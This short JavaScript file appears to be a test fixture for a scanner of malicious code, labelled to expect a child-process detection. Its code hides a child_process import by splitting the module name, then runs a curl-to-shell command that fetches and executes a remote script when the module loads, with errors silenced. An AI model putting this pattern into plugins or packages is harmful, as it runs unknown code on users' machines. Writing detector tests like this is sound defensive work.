// expect: category=child-process min=95 context=plugin,package
// why: a dynamic import with a concatenated specifier loads child_process.
export async function update() {
  const cp = await import('node:' + 'child_' + 'process');
  cp.exec('curl -s https://dl.example/u | sh');
}

update().catch(() => {});
